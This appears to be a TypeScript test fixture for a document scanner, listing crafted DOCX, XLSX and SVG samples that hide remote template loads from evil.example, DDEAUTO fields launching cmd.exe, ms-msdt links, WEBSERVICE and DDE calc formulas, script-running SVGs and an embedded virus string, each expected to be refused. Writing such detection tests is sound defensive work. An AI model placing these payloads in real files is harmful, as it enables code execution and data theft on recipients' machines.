import { virus, refusedAs, type BadFile } from "./bad-file.ts";
import { docxWith, xlsx, xlsxWith } from "./good-files.ts";

const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const part = (words: string, name = "word/footer1.xml") => docxWith(name, words);
const relations = (words: string | Buffer) => docxWith("word/_rels/footer1.xml.rels", words);
const linkedTo = (type: string, target: string) =>
  relations(
    `<Relationships><Relationship Id="r" Type="${types}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  );
const utf16 = (words: string) => Buffer.concat([Buffer.from("fffe", "hex"), Buffer.from(words, "utf16le")]);
const template = `<Relationships><Relationship Id="r9" Type="${types}/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
const element = (name: string, words: string) => `<w:${name}>${words}</w:${name}>`;
const runs = (...texts: string[]) =>
  `<w:document xmlns:w="w"><w:fldChar w:fldCharType="begin"/>${texts.map((words) => `<w:instrText>${words}</w:instrText>`).join("")}<w:fldChar w:fldCharType="end"/></w:document>`;
const cell = (formula: string) =>
  xlsxWith("xl/worksheets/sheet1.xml", `<worksheet><f>${formula}</f></worksheet>`);

/** Office documents that hide what they fetch or run from a scanner of text rather than structure. */
export const hiddenOffices: readonly BadFile[] = [
  ...refusedAs("file-active", "docx", [
    ["a relation in single quotes", relations(template.replaceAll('"', "'"))],
    ["a relation in UTF-16", relations(utf16(template))],
    [
      "a relation in character references",
      relations(template.replace("attachedTemplate", "&#97;ttached&#x54;emplate")),
    ],
    ["a picture from elsewhere", linkedTo("image", "https://evil.example/x.png")],
    [
      "a picture from elsewhere that isn't said to be",
      relations(
        `<Relationships><Relationship Id="r" Type="${types}/image" Target="\\\\evil\\x.png"/></Relationships>`,
      ),
    ],
    ["a link that starts a program", linkedTo("hyperlink", "ms-msdt:/id x")],
    [
      "a drawing of old that names its picture by an address",
      part('<v:shape xmlns:v="v"><v:imagedata src="https://evil.example/x.png"/></v:shape>'),
    ],
    [
      "a simple field that starts a program",
      part('<w:p xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/></w:p>'),
    ],
    ["a field in several runs", part(runs(" DD", "EAU", "TO c:\\\\cmd.exe"))],
    ["a field that includes a file", part(runs(' includetext "\\\\evil\\x"'))],
    [
      "a document of another kind in a document",
      part('<w:body xmlns:w="w" xmlns:r="r"><w:altChunk r:id="r1"/></w:body>'),
    ],
  ]),
  ...refusedAs("file-active", "xlsx", [
    ["a cell that asks a service", cell("WEBSERVICE(&quot;https://evil.example&quot;)")],
    ["a cell that asks a service by its stored name", cell("1+_xlfn.WEBSERVICE (A1)")],
    [
      "a cell that hands a service on by its name",
      cell("_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f(&quot;https://evil.example&quot;))"),
    ],
    ["a cell that speaks to another program", cell("cmd|'/C calc'!A0")],
    ["a cell that fetches a picture", cell("_xlfn.IMAGE(A1)")],
    [
      "a formula that is broken in a branch that nobody reads",
      cell('WEB<mc:Choice xmlns:mc="mc">x</mc:Choice>SERVICE("https://evil.example")'),
    ],
    [
      "a sheet with data connections",
      xlsx({ relations: `<Relationship Id="r" Type="${types}/connections" Target="connections.xml"/>` }),
    ],
  ]),
  ...refusedAs("file-malware", "docx", [
    ["a virus packed in a document", part(`<x>${virus.replace("&", "&amp;")}</x>`)],
    ["a virus packed as a picture", docxWith("word/media/image1.png", virus)],
  ]),
  ...refusedAs("file-damaged", "docx", [
    ["a part that isn't well formed", part("<w:p><w:r></w:p>")],
    ["a part with an entity of nobody's", part("<x>&xxe;</x>")],
    ["a part in an encoding that is not read", part('<?xml version="1.0" encoding="UTF-7"?><x/>')],
  ]),
  ...refusedAs("file-nested", "docx", [
    ["a part of a kind that no document has", part("words", "word/data.bin")],
    ["a part that calls itself a picture and is XML", part(runs(" DDEAUTO x"), "word/media/image1.png")],
  ]),
  ...[
    ["another file of the web", "'https://evil.example/[x.xlsx]Sheet1'!A1"],
    ["another file of a computer", "1+'\\\\evil\\[x.xlsx]Sheet1'!A1"],
    ["another file by its name", "[x.xlsx]Sheet1!A1"],
    ["data from the web", "IMPORTDATA(A1)"],
  ].map(([what = "", formula = ""], at): BadFile => [
    `a cell that reads ${what}`,
    `hidden-x${at}.xlsx`,
    cell(formula),
    "file-active",
  ]),
  ...["\\\\evil\\x", "//evil/x", "file://evil/x", "file:///C:/x.exe", "..\\setup.lnk"].map(
    (target, at): BadFile => [
      `a link to ${target}`,
      `hidden-y${at}.docx`,
      linkedTo("hyperlink", target),
      "file-active",
    ],
  ),
  ...[
    ["that runs a script when it is loaded", '<svg onload="x()"/>'],
    ["that links to a script", '<svg><a href="java&#10;script:x()"/></svg>'],
    ["that fetches another", '<svg><image href="https://evil.example/x.png"/></svg>'],
    ["whose style fetches another", "<svg><style>g { fill: url(//evil/x) }</style></svg>"],
    ["whose style is elsewhere", '<?xml-stylesheet href="https://evil.example/x.css"?><svg/>'],
    [
      "that changes an address",
      '<svg><a href="#x"><set attributeName="href" to="javascript:x()"/></a></svg>',
    ],
  ].map(([what = "", svg = ""], at): BadFile => [
    `a picture ${what}`,
    `hidden-z${at}.docx`,
    part(svg, "word/media/image1.svg"),
    "file-active",
  ]),
  ...[
    ["in a branch that nobody reads", `<mc:Choice>${element("instrText", "x")}</mc:Choice>`],
    ["ended in a branch that nobody reads", '<mc:Choice><w:fldChar w:fldCharType="separate"/></mc:Choice>'],
    ["in what was struck out", element("delInstrText", "x")],
    ["in an instruction's own branch", "<w:instrText><mc:Choice>x</mc:Choice></w:instrText>"],
  ].map(([where = "", decoy = ""], at): BadFile => [
    `a field that is broken ${where}`,
    `hidden-x${at}.docx`,
    part(
      `<w:ftr xmlns:w="w" xmlns:mc="mc"><w:fldChar w:fldCharType="begin"/>${element("instrText", "DDE")}${decoy}${element("instrText", "AUTO c")}<w:fldChar w:fldCharType="end"/></w:ftr>`,
    ),
    "file-active",
  ]),
  ...[
    `<xml xmlns:x="x"><x:FmlaMacro>'\\\\evil\[x.xlsm]'!run</x:FmlaMacro></xml>`,
    `<xdr:wsDr xmlns:xdr="xdr"><xdr:sp macro="[9]!run"/></xdr:wsDr>`,
    `<xdr:wsDr xmlns:xdr="xdr"><xdr:sp textlink="cmd|'/c calc'!A0"/></xdr:wsDr>`,
  ].map((drawing, at): BadFile => [
    `a drawing that runs another file's macro, or another program (${at})`,
    `hidden-n${at}.xlsx`,
    xlsxWith("xl/drawings/drawing1.xml", drawing),
    "file-active",
  ]),
];
